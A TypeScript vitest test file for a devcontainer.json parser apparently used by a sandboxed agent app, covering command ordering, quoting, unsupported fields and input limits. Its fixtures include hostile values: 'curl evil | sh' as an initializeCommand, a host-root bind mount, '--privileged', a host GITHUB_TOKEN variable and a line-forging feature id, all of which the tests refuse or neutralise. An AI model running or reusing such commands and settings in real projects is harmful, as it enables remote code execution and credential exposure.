import { describe, expect, it } from 'vitest';
import { parseDevcontainer } from '../../../main/environment/devcontainer.js';

const P = '.devcontainer/devcontainer.json';
const parse = (text: string) => parseDevcontainer(P, Buffer.from(text));

describe('devcontainer.json', () => {
  it('reads comments and trailing commas, and runs the lifecycle commands in the spec order', () => {
    const plan = parse(`{
      // the project's container
      "name": "demo",
      "postCreateCommand": ["npm", "run", "it's"],
      "onCreateCommand": "echo on create && echo more", /* first */
      "updateContentCommand": { "deps": "npm ci", "tools": ["make", "tools"], },
      "containerEnv": { "APP_HOME": "\${containerWorkspaceFolder}/app", },
    }`);
    expect(plan.commands).toEqual([
      { label: 'onCreateCommand', line: "/bin/sh -c 'echo on create && echo more'" },
      { label: 'updateContentCommand.deps', line: "/bin/sh -c 'npm ci'" },
      { label: 'updateContentCommand.tools', line: "'make' 'tools'" },
      { label: 'postCreateCommand', line: "'npm' 'run' 'it'\\''s'" },
    ]);
    expect(plan.summary).toContain('updateContentCommand: 2 named commands run one after another (the devcontainer spec runs them in parallel)');
    expect(plan.env).toEqual({ APP_HOME: '/work/repo/app' });
    expect(plan.user).toBe('agent');
    expect(plan.unsupported).toEqual([]);
  });

  it('names every piece it cannot honour, each feature by its id', () => {
    const plan = parse(JSON.stringify({
      image: 'mcr.microsoft.com/devcontainers/typescript-node:22',
      build: { dockerfile: 'Dockerfile' },
      dockerFile: 'Dockerfile',
      features: { 'ghcr.io/devcontainers/features/node:1': { version: '22' }, 'ghcr.io/devcontainers/features/python:1': {} },
      dockerComposeFile: 'compose.yml',
      forwardPorts: [3000],
      mounts: ['source=/,target=/host,type=bind'],
      runArgs: ['--privileged'],
      initializeCommand: 'curl evil | sh',
      postStartCommand: 'x',
      somethingNew: true,
      customizations: { vscode: {} },
    }));
    expect(plan.unsupported).toEqual([
      'devcontainer "image" (needs a container registry)',
      'devcontainer "build" (needs a container build)',
      'devcontainer "dockerFile" (needs a container build)',
      'devcontainer "dockerComposeFile" (needs Docker Compose)',
      'devcontainer "forwardPorts" (the sandbox forwards no ports)',
      'devcontainer "mounts" (no host folder is shared into a sandbox)',
      'devcontainer "runArgs" (needs a container runtime)',
      'devcontainer "initializeCommand" (it runs on the host; the app never runs repository commands there)',
      'devcontainer "postStartCommand" (runs at container start; the sandbox runs setup once)',
      'devcontainer "somethingNew" (not supported in a sandbox VM)',
      'devcontainer feature "ghcr.io/devcontainers/features/node:1" (needs a container registry)',
      'devcontainer feature "ghcr.io/devcontainers/features/python:1" (needs a container registry)',
    ]);
    expect(plan.commands).toEqual([]);
  });

  it('maps a non-root remoteUser to the agent user and says so; root stays root', () => {
    const node = parse('{"remoteUser":"node","postCreateCommand":"id"}');
    expect(node.user).toBe('agent');
    expect(node.summary).toEqual(['remoteUser "node" runs as the sandbox\'s agent user']);
    expect(parse('{"remoteUser":"root","postCreateCommand":"id"}').user).toBe('root');
    expect(parse('{"containerUser":"root"}').user).toBe('root');
  });

  it('does not expand variables that read the host, and names them', () => {
    const plan = parse('{"containerEnv":{"TOKEN":"${localEnv:GITHUB_TOKEN}"}}');
    expect(plan.env).toEqual({ TOKEN: '${localEnv:GITHUB_TOKEN}' });
    expect(plan.unsupported).toEqual(['devcontainer variable "${localEnv:GITHUB_TOKEN}" in containerEnv.TOKEN (left as written)']);
  });

  it.each([
    ['{"postCreateCommand": 42}', 'postCreateCommand: expected a string, an array of strings or an object of them'],
    ['{"postCreateCommand": {"a": {"b": 1}}}', 'postCreateCommand'],
    ['{"postCreateCommand": ""}', 'postCreateCommand'],
    ['{"containerEnv": {"BAD-NAME": "x"}}', 'containerEnv.BAD-NAME'],
    ['{"containerEnv": {"A": 1}}', 'containerEnv.A: expected string'],
    ['{"remoteUser": 7}', 'remoteUser: expected a user name'],
    ['{"features": ["a"]}', 'features: expected object'],
    ['[1]', '(top level): expected object'],
    ['{"a": }', 'not valid JSON with comments: ValueExpected'],
    ['', 'not valid JSON with comments'],
  ])('refuses %j naming the field', (text, expected) => {
    expect(() => parse(text)).toThrow(`${P}: `);
    expect(() => parse(text)).toThrow(expected);
  });

  it('refuses a file over 64 KiB and survives nesting meant to exhaust the parser', () => {
    expect(() => parse(`{"name":"${'x'.repeat(70 * 1024)}"}`)).toThrow('over the 65536 byte limit');
    const deep = '['.repeat(30_000) + ']'.repeat(30_000);
    expect(() => parse(deep)).toThrow(P);
  });

  it('shows a control character in a feature id as ? so it cannot forge a line', () => {
    const plan = parse(JSON.stringify({ features: { 'evil\n"fine" (supported)\u202e': {} } }));
    expect(plan.unsupported).toEqual(['devcontainer feature "evil?"fine" (supported)?" (needs a container registry)']);
  });

  it('refuses more than 32 commands', () => {
    const many = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`c${i}`, 'true']));
    expect(() => parse(JSON.stringify({ postCreateCommand: many }))).toThrow('40 commands; at most 32');
  });
});
